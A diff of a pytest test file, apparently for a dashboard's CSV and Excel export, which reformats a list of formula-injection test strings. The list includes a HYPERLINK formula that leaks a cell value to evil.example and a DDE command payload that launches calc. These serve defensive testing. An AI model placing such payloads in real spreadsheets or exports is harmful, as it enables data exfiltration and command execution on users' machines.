@@ -1,4 +1,5 @@
 """Downloads cannot carry formulas: formula-looking text is made inert in CSV and Excel, numbers stay numbers."""
+
 from __future__ import annotations
 
 import csv
@@ -10,16 +11,24 @@ import pytest
 
 from dashboard.exports import csv_bytes, excel_bytes, neutralise_cell
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-2+3", "@SUM(A1)",
-           "=cmd|' /C calc'!A0", "\t=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+1",
+    "-2+3",
+    "@SUM(A1)",
+    "=cmd|' /C calc'!A0",
+    "\t=1+1",
+]
 
 
 def hostile_frame() -> pd.DataFrame:
-    return pd.DataFrame({
-        "province": ["LA-AT"] * len(HOSTILE),
-        "remark": HOSTILE,
-        "value": [-2.5, -1.0, 0.0, 3.0, 4.5, -7.0],
-    })
+    return pd.DataFrame(
+        {
+            "province": ["LA-AT"] * len(HOSTILE),
+            "remark": HOSTILE,
+            "value": [-2.5, -1.0, 0.0, 3.0, 4.5, -7.0],
+        }
+    )
 
 
 @pytest.mark.parametrize("text", HOSTILE)
